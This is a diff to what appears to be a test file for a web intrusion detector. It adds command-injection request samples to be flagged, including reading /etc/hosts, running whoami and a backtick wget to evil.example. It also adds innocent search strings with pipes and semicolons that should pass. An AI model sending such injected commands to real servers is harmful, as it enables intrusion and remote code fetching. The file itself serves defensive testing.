@@ -168,6 +168,15 @@ const ATTACKS: readonly (readonly [rule: string, what: string, traffic: TrafficM
       ['GET /search?q=%7B%7B7*7%7D%7D'],
     ],
   ],
+  [
+    'attack-shape',
+    'three shells',
+    () => [
+      ['GET /search?q=x;cat%20/etc/hosts'],
+      ['GET /search?q=x%7Cwhoami'],
+      ['GET /search?q=x%60wget%20evil.example%60'],
+    ],
+  ],
   ['refusals', 'fifty requests without a credential', () => times(50, () => 'GET /user')],
   ['honeypot', 'one touch of a decoy', () => [['GET /admin.php']]],
 ];
@@ -245,6 +254,11 @@ const HONEST: readonly (readonly [rule: string, what: string, traffic: TrafficMa
         '%7Bname%7D',
         '../next-page',
         'scripts+and+images',
+        '%22salt%22+and+%22pepper%22&page=2',
+        "'tea'+OR+'coffee'&sort=price",
+        'dog|cat',
+        'ny;nc',
+        'python|bash',
       ].map((text) => [`GET /search?q=${text}`] as const),
   ],
   ['refusals', 'forty requests without a credential', () => times(40, () => 'GET /user')],
